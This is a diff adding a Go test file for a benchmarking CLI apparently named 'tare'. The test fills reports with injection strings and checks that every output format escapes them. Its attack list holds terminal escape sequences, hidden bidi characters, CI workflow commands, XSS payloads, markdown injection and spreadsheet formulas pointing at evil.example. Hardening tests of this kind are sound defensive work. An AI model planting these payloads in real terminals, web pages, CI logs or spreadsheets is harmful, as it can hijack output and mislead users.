@@ -1,0 +1,507 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"reflect"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+
+	"github.com/google/go-cmp/cmp"
+	"go.yaml.in/yaml/v4"
+
+	"tare/internal/design"
+	"tare/internal/metric"
+	"tare/internal/report"
+	"tare/internal/signature"
+)
+
+// attacks are texts that want to be more than text. "@" is where the field that holds one names itself.
+var attacks = []string{
+	"\x1b[31m@\x1b]0;@\x07", "\u009b31m@\x7f\x00\b@", "@\rover\vthis\f@", "\x1b]8;;http://evil.example/@\x07@",
+	"\u202e@\u2066@\u200f@", "\u200b@\ufeff@\u2060@\U000e0041@", "@\u2028::error::@\u2029@",
+	"::error title=@::@", "@\n::add-mask::@", "\u00a0\t::stop-commands::@", "@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@ ::error::@",
+	"##[error]@", "##vso[task.setvariable variable=x]@", "@ ##teamcity[message text='@']", "@\nsection_start:0:@\r\x1b[0K@",
+	"<script>alert('@')</script>", "</style><img src=x onerror=@>", "</script><svg onload=@>", "--><b>@</b>", "]]>@<![CDATA[", "\"'><a href=\"javascript:@\">@</a>", "{{.}}${@}&amp;@;",
+	"[@](javascript:@)", "![@](http://evil.example/@)", "@ | @ | @", "`@` **@** _@_ ~~@~~ <@>", "# hd @", "> qt @", "- li @", "+ pl @", "1. ol @", "```\n@", "\n\n# hd @\n\n| @ | @ |", "[@]: javascript:@",
+	"@\"} 1\nevil_metric 1\n# EOF\n", "\\@\"\\", "@\nBenchmarkEvil 1 1 ns/op", "@: [*a, !!x &a", "? @\n: @", "=HYPERLINK(\"http://evil.example/@\")", "@SUM(@)", "+1+@", "-1-@",
+}
+
+// A filler fills a model with attacks: every string, key of a map and element, whatever the model comes to hold.
+type filler struct {
+	*rand.Rand
+	t      *testing.T
+	attack string                 // for every field; empty: a different one for each
+	wants  func(part string) bool // whether an optional part of the report is there
+	whole  bool                   // all optional parts below those are there
+	names  map[string]string      // texts that several fields share
+}
+
+// valid are the words that some texts have in a report of tare's own: others are reached by code that knows them.
+var valid = map[reflect.Type][]string{
+	reflect.TypeFor[design.Question]():            {"compare", "scale", "capacity", "soak"},
+	reflect.TypeFor[design.Control]():             {"", "aa", "negative"},
+	reflect.TypeFor[report.Status]():              {"complete", "interrupted", "killed", "error"},
+	reflect.TypeFor[report.Verdict]():             words(report.Verdicts()),
+	reflect.TypeFor[report.EffectVerdict]():       words(report.EffectVerdicts()),
+	reflect.TypeFor[report.Formula]():             words(report.Formulas()),
+	reflect.TypeFor[metric.Unit]():                {"s", "CPU-s", "B", "1/s", "ratio", "1"},
+	reflect.TypeFor[signature.Class]():            {"accept-queue", "token-bucket", "unknown"},
+	reflect.TypeFor[signature.GeneratorVerdict](): {"ruled-out", "possible", "limit"},
+}
+
+// validNames are those of texts of no type of their own.
+var validNames = map[string][]string{
+	"Kind": {"ratio", "difference", "cold-start"}, "Stop": {"found", "down", "max-rate", "ladder"}, "Quantile": {"", "p50", "p99"}, "Metric": {"wall", "response", "cpu", "rss", "error", "goodput"},
+	"Law": {"linear", "log"}, "Best": {"linear", "constant"}, "Of": {"calls", "batches"}, "Text": {"capacity >= 100/s", "response.p99 <= +5%", "rss drift <= 1%/h"},
+	"Outcome": {"timeout", "refused"}, "Formula": {"official"}, "Operation": {""},
+}
+
+// shared are the texts by which parts of a report find one another.
+var shared = map[string]string{"Treatment": "treatment", "ID": "treatment", "Baseline": "treatment", "Operation": "operation", "Factor": "factor", "Factors": "factor", "Levels": "factor", "Windows": "windows"}
+
+func words[T ~string](all []T) []string {
+	var out []string
+	for _, w := range all {
+		out = append(out, string(w))
+	}
+	return out
+}
+
+// text is an attack that names the field at path, or as often, where the field knows some, a valid word.
+func (f *filler) text(path string, t reflect.Type) string {
+	field := path[strings.LastIndexByte(path, '.')+1:]
+	choice := valid[t]
+	if t == reflect.TypeFor[string]() {
+		choice = validNames[field]
+	}
+	if len(choice) > 0 && f.IntN(2) == 0 {
+		return choice[f.IntN(len(choice))]
+	}
+	name := strings.ReplaceAll(path, ".", "")
+	if pool, ok := shared[field]; ok {
+		name = fmt.Sprint(pool, f.IntN(3))
+		if s, ok := f.names[name]; ok {
+			return s
+		}
+	}
+	attack := f.attack
+	if attack == "" {
+		attack = attacks[f.IntN(len(attacks))]
+	}
+	s := strings.ReplaceAll(attack, "@", "zq"+name+"qz")
+	f.names[name] = s
+	return s
+}
+
+// there decides whether an optional part is.
+func (f *filler) there(path string) bool {
+	if strings.Count(path, ".") == 1 {
+		return f.wants(path[1:])
+	}
+	return f.whole || f.IntN(3) > 0
+}
+
+func (f *filler) fill(v reflect.Value, path string) {
+	switch v.Kind() { //nolint:exhaustive // of other kinds there are none in a report, or the test fails
+	case reflect.String:
+		v.SetString(f.text(path, v.Type()))
+	case reflect.Bool:
+		v.SetBool(f.IntN(2) == 0)
+	case reflect.Int, reflect.Int64:
+		v.SetInt(int64(f.IntN(30)))
+	case reflect.Uint64:
+		v.SetUint(uint64(f.IntN(3000)))
+	case reflect.Float64:
+		v.SetFloat([]float64{0, 0.25, 1, 17.5, 4000, -3}[f.IntN(6)] * (1 + f.Float64()))
+	case reflect.Array:
+		for i := range v.Len() {
+			f.fill(v.Index(i), path)
+		}
+	case reflect.Pointer:
+		if f.there(path) {
+			v.Set(reflect.New(v.Type().Elem()))
+			f.fill(v.Elem(), path)
+		}
+	case reflect.Slice:
+		if f.there(path) {
+			v.Set(reflect.MakeSlice(v.Type(), 3, 3))
+			for i := range v.Len() {
+				f.fill(v.Index(i), path)
+			}
+		}
+	case reflect.Map:
+		if f.there(path) {
+			f.fillMap(v, path)
+		}
+	case reflect.Struct:
+		f.fillStruct(v, path)
+	default:
+		f.t.Fatalf("%s is a %s, which this test cannot fill", path, v.Kind())
+	}
+}
+
+func (f *filler) fillMap(v reflect.Value, path string) {
+	v.Set(reflect.MakeMap(v.Type()))
+	for range 2 {
+		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
+		f.fill(key, path)
+		f.fill(value, path+".value")
+		v.SetMapIndex(key, value)
+	}
+}
+
+func (f *filler) fillStruct(v reflect.Value, path string) {
+	if at, ok := reflect.TypeAssert[*time.Time](v.Addr()); ok {
+		*at = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
+		return
+	}
+	for i := range v.NumField() {
+		f.fill(v.Field(i), path+"."+v.Type().Field(i).Name)
+	}
+}
+
+// parts are the fields of a report that may be absent.
+func parts() (out []string) {
+	for field := range reflect.TypeFor[report.Report]().Fields() {
+		if k := field.Type.Kind(); k == reflect.Slice || k == reflect.Pointer || k == reflect.Map {
+			out = append(out, field.Name)
+		}
+	}
+	return out
+}
+
+// hostileReports are reports in which every text is an attack: every attack in all fields, every part alone and every part left out, and random
+// parts of all kinds.
+func hostileReports(t *testing.T, each func(name string, r *report.Report)) {
+	make1 := func(name string, seed uint64, f filler) {
+		f.Rand, f.t, f.names = rand.New(rand.NewPCG(seed, 7)), t, map[string]string{}
+		var r report.Report
+		f.fill(reflect.ValueOf(&r).Elem(), "")
+		r.Schema = report.Schema
+		for i := range r.Timeline {
+			r.Timeline[i].Bin = 1
+		}
+		each(name, &r)
+	}
+	all := func(string) bool { return true }
+	for i, a := range attacks {
+		make1(fmt.Sprintf("attack %q", a), uint64(i), filler{attack: a, wants: all, whole: true})
+	}
+	for i, part := range parts() {
+		make1("only "+part, uint64(i), filler{wants: func(p string) bool { return p == part || p == "Treatments" && i%2 == 0 }, whole: true})
+		make1("all but "+part, uint64(i), filler{wants: func(p string) bool { return p != part }})
+	}
+	n := uint64(60)
+	if testing.Short() {
+		n = 20
+	}
+	for seed := range n {
+		coin := rand.New(rand.NewPCG(seed, 8))
+		make1(fmt.Sprint("random ", seed), seed, filler{wants: func(string) bool { return coin.IntN(3) > 0 }})
+	}
+}
+
+// hostileForms are all the forms of a report, and what else the command line makes of one.
+func hostileForms() map[string]report.Encoder {
+	all := encoders()
+	all["annotations"], all["summary"] = report.Annotations, report.StepSummary
+	all["text, 60 columns"], all["text in color"] = report.Style{Width: 60}.Text, report.Style{Color: true}.Text
+	all["check"] = func(w io.Writer, r *report.Report) error {
+		a := &app{Env: Env{Stdout: w}}
+		a.budgetLines(r)
+		return a.lost
+	}
+	all["windows"] = func(w io.Writer, r *report.Report) error {
+		for i := range r.Soak {
+			if err := report.WriteWindows(w, r.Soak[i].Moments); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+	return all
+}
+
+// TestHostileReportsStayText encodes reports full of attacks in every form: no text may control a terminal, be a command of a CI system or become
+// markup, and what other programs read has to stay what it was.
+func TestHostileReportsStayText(t *testing.T) {
+	t.Parallel()
+	written, reported := map[string]int{}, map[string]bool{}
+	hostileReports(t, func(name string, r *report.Report) {
+		for form, encode := range hostileForms() {
+			var b bytes.Buffer
+			if err := encode(&b, r); err != nil {
+				if !slices.Contains(ofBlocks, form) {
+					t.Errorf("%s: %s: %v", form, name, err)
+				}
+				continue
+			}
+			written[form]++
+			for _, f := range examined(form, b.String(), r) {
+				if what := form + " " + f.what + " " + f.field(); !reported[what] {
+					reported[what] = true
+					t.Errorf("%s: %s: %s in %s: %q", form, name, f.what, f.field(), f.where)
+				}
+			}
+		}
+	})
+	for form := range hostileForms() {
+		if written[form] < 5 {
+			t.Errorf("%s: only %d reports could be written", form, written[form])
+		}
+	}
+}
+
+// ofBlocks are the forms of other tools, which not every report can take.
+var ofBlocks = []string{"benchfmt", "benchstat", "hyperfine", "github-action-benchmark"}
+
+// A found is a place where a text became more than text.
+type found struct{ what, where string }
+
+var marker = regexp.MustCompile(`zq(\w+?)qz`)
+
+// field is the field of the report that did it.
+func (f found) field() string {
+	if m := marker.FindStringSubmatch(f.where); m != nil {
+		return m[1]
+	}
+	return "an unknown field"
+}
+
+// around is a place and what surrounds it, so that the next field's name is in it.
+func around(s string, from, to int) string { return s[max(0, from-40):min(len(s), to+120)] }
+
+var (
+	commandAnywhere = regexp.MustCompile(`##\w*\[`)
+	ownColor        = regexp.MustCompile("\x1b\\[(0|31|32|33)m")
+	ownAnnotation   = regexp.MustCompile(`^::(error|warning|notice) title=[^:,]+::\S`)
+)
+
+// examined finds in one form of a report what should not be in it.
+func examined(form, out string, r *report.Report) []found {
+	if form == "text in color" {
+		out = ownColor.ReplaceAllString(out, "")
+	}
+	all := uncontrolled(out)
+	if form != "annotations" {
+		all = append(all, uncommanded(out)...)
+	}
+	examine, ok := map[string]func(string, *report.Report) []found{
+		"annotations": annotationsFound, "markdown": markdownFound, "summary": markdownFound, "html": pageFound, "junit": junitFound, "json": jsonFound, "yaml": yamlFound,
+		"hyperfine": anyJSONFound, "github-action-benchmark": anyJSONFound, "openmetrics": openMetricsFound, "benchfmt": benchfmtFound, "windows": windowsFound,
+	}[form]
+	if ok {
+		all = append(all, examine(out, r)...)
+	}
+	return all
+}
+
+// uncontrolled finds characters that a terminal obeys or does not show.
+func uncontrolled(out string) []found {
+	for i, c := range out {
+		bidi := c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069 || c == 0x200e || c == 0x200f || c == 0x61c
+		hidden := c == 0x200b || c == 0xfeff || c == 0x2060 || c == 0x2028 || c == 0x2029 || c >= 0xe0000 && c <= 0xe007f
+		if unicode.IsControl(c) && c != '\n' && c != '\t' || bidi || hidden {
+			return []found{{fmt.Sprintf("the character %U", c), around(out, i, i)}}
+		}
+	}
+	return nil
+}
+
+// uncommanded finds commands of CI systems.
+func uncommanded(out string) []found {
+	var all []found
+	for line := range strings.Lines(out) {
+		if strings.HasPrefix(strings.TrimSpace(line), "::") {
+			all = append(all, found{"a command of GitHub", around(line, 0, 40)})
+		}
+	}
+	if at := commandAnywhere.FindStringIndex(out); at != nil {
+		all = append(all, found{"a command in a line", around(out, at[0], at[1])})
+	}
+	return all
+}
+
+func annotationsFound(out string, _ *report.Report) []found {
+	var all []found
+	if n := strings.Count(out, "\n"); n > report.MaxAnnotations {
+		all = append(all, found{fmt.Sprint(n, " annotations"), out})
+	}
+	for line := range strings.Lines(out) {
+		if !ownAnnotation.MatchString(line) || commandAnywhere.MatchString(line) {
+			all = append(all, found{"another command", line})
+		}
+	}
+	return all
+}
+
+var (
+	escapedMark = regexp.MustCompile(`\\[!-/:-@\[-` + "`" + `{-~]`)
+	liveMark    = regexp.MustCompile("<|`|\\]\\(|~~|\\[|(^|[^*])\\*([^*]|$)|&[^la]|(?m)^(- )?(# hd|> qt|- li|\\+ pl|1\\. ol)")
+)
+
+// markdownFound finds marks that the encoder did not make, and rows of other lengths than their table's head.
+func markdownFound(out string, _ *report.Report) []found {
+	var all []found
+	bare := escapedMark.ReplaceAllString(out, "")
+	if at := liveMark.FindStringIndex(bare); at != nil {
+		all = append(all, found{"a mark of Markdown", around(bare, at[0], at[1])})
+	}
+	bars := 0
+	for line := range strings.Lines(bare) {
+		n := strings.Count(line, "|")
+		if bars > 0 && n > 0 && n != bars || n > 0 && !strings.HasPrefix(line, "|") {
+			all = append(all, found{"a cell too many", line})
+		}
+		bars = n
+	}
+	return all
+}
+
+var (
+	pageParts  = regexp.MustCompile(`(?s)<style>.*?</style>|<(meta[^>]*|!doctype html)>`)
+	pageScript = regexp.MustCompile(`(?s)(<script[^>]*>)(.*?)</script>`)
+	pageNames  = strings.Fields(`html head title body header main section nav footer p h1 h2 h3 ul li a div span strong figure figcaption details summary
+		table caption thead tbody tr th td dl dt dd pre code script svg desc g path line rect circle text tspan polyline polygon defs clipPath use pattern`)
+)
+
+// pageFound reads a page as strictly as XML is read: elements and attributes have to be those of pages.
+func pageFound(out string, _ *report.Report) []found {
+	for _, m := range pageScript.FindAllStringSubmatch(out, -1) {
+		if strings.Contains(m[1], "json") && !json.Valid([]byte(m[2])) {
+			return []found{{"broken data", around(m[2], 0, 200)}}
+		}
+	}
+	return markupFound(pageScript.ReplaceAllString(pageParts.ReplaceAllString(out, ""), "$1</script>"), pageNames,
+		strings.Fields("lang class id href aria-label aria-labelledby role tabindex scope open type data-timeline"))
+}
+
+// markupFound finds elements and attributes of other names, and addresses. Those of drawings are told by their element.
+func markupFound(out string, names, attributes []string) []found {
+	d := xml.NewDecoder(strings.NewReader(out))
+	drawing := 0
+	for {
+		token, err := d.Token()
+		switch x := token.(type) {
+		case xml.StartElement:
+			if x.Name.Local == "svg" || drawing > 0 {
+				drawing++
+			}
+			if !slices.Contains(names, x.Name.Local) {
+				return []found{{"the element " + x.Name.Local, around(out, int(d.InputOffset()), int(d.InputOffset()))}}
+			}
+			for _, a := range x.Attr {
+				n := strings.ToLower(a.Name.Local)
+				if drawing == 0 && !slices.Contains(attributes, n) || strings.HasPrefix(n, "on") || n == "style" || n == "href" && !strings.HasPrefix(a.Value, "#") {
+					return []found{{"the attribute " + n, around(out, int(d.InputOffset())-80, int(d.InputOffset()))}}
+				}
+			}
+		case xml.EndElement:
+			drawing = max(0, drawing-1)
+		case xml.Comment, xml.Directive:
+			return []found{{"a comment or a directive", around(out, int(d.InputOffset())-80, int(d.InputOffset()))}}
+		}
+		if errors.Is(err, io.EOF) {
+			return nil
+		}
+		if err != nil {
+			return []found{{"broken markup: " + err.Error(), around(out, int(d.InputOffset()), int(d.InputOffset()))}}
+		}
+	}
+}
+
+func junitFound(out string, _ *report.Report) []found {
+	return markupFound(out, strings.Fields("testsuites testsuite properties property testcase skipped error failure system-out system-err"),
+		strings.Fields("name tests failures errors time skipped timestamp hostname value classname message type"))
+}
+
+// jsonFound finds values that are not the report's.
+func jsonFound(out string, r *report.Report) []found { return valuesFound(out, r, json.Unmarshal) }
+
+func yamlFound(out string, r *report.Report) []found {
+	return valuesFound(out, r, func(b []byte, v any) error {
+		var any2 any
+		if err := yaml.Unmarshal(b, &any2); err != nil {
+			return err
+		}
+		again, err := json.Marshal(any2)
+		if err != nil {
+			return err
+		}
+		return json.Unmarshal(again, v)
+	})
+}
+
+func valuesFound(out string, r *report.Report, decode func([]byte, any) error) []found {
+	b, err := json.Marshal(r)
+	if err != nil {
+		return []found{{err.Error(), ""}}
+	}
+	var want, got any
+	if err := json.Unmarshal(b, &want); err != nil {
+		return []found{{err.Error(), ""}}
+	}
+	if err := decode([]byte(out), &got); err != nil {
+		return []found{{"broken syntax: " + err.Error(), around(out, 0, 0)}}
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		return []found{{"another value", d}}
+	}
+	return nil
+}
+
+func anyJSONFound(out string, _ *report.Report) []found {
+	if !json.Valid([]byte(out)) {
+		return []found{{"broken JSON", out}}
+	}
+	return nil
+}
+
+var (
+	metricLine    = regexp.MustCompile(`^(# (TYPE|UNIT|HELP) tare_.*|# EOF|tare_[a-z0-9_]+(\{([a-z0-9_]+="([^"\\]|\\[n"\\])*",?)*\})? \S+)\n$`)
+	benchmarkLine = regexp.MustCompile(`^(# .*|Unit \S+ better=\w+|(experiment|area): \S.*|Benchmark\S+ 1( \S+ \S+)+|)\n$`)
+)
+
+func openMetricsFound(out string, _ *report.Report) []found {
+	all := linesFound(out, metricLine)
+	if strings.Count(out, "# EOF") != 1 && strings.Count(out, "\n# EOF\n") != 1 {
+		all = append(all, found{"an end before the end", out})
+	}
+	return all
+}
+
+func benchfmtFound(out string, _ *report.Report) []found { return linesFound(out, benchmarkLine) }
+
+func linesFound(out string, line *regexp.Regexp) []found {
+	for l := range strings.Lines(out) {
+		if !line.MatchString(l) {
+			return []found{{"a line of another form", l}}
+		}
+	}
+	return nil
+}
+
+// windowsFound finds cells that a spreadsheet computes.
+func windowsFound(out string, _ *report.Report) []found {
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		return []found{{err.Error(), out}}
+	}
+	for _, cell := range slices.Concat(rows...) {
+		if marker.MatchString(cell) && strings.ContainsAny(cell[:1], "=+-@") {
+			return []found{{"a formula", cell}}
+		}
+	}
+	return nil
+}
